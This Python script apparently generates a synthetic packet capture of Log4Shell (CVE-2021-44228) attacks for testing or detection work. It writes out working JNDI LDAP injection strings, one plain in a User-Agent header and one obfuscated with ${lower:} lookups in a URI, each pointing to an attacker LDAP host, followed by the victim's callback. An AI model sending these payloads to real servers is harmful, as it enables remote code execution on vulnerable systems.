"""Log4Shell (CVE-2021-44228) in a header and in the URI, plain and obfuscated, then the victim's LDAP call back."""
import os
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), '..'))
from build import Capture, here, http_request, http_response

c = Capture(seed=14)
for agent, path in (('${jndi:ldap://203.0.113.66:1389/a}', '/'), ('Mozilla/5.0', '/?x=${${lower:j}ndi:${lower:l}dap://203.0.113.66:1389/b}')):
    with c.tcp('203.0.113.66', '10.30.0.80', 8080) as s:
        s.client(http_request('GET', path, 'mottcua.example.gov.vn:8080', agent=agent))
        s.server(http_response(b'ok', kind='text/plain'))
with c.tcp('10.30.0.80', '203.0.113.66', 1389) as s:
    s.client(bytes.fromhex('300c020101600702010304008000'))          # LDAP bind, anonymous
    s.server(bytes.fromhex('300c02010161070a010004000400'))
c.write(here(__file__, 'log4shell.pcap'))
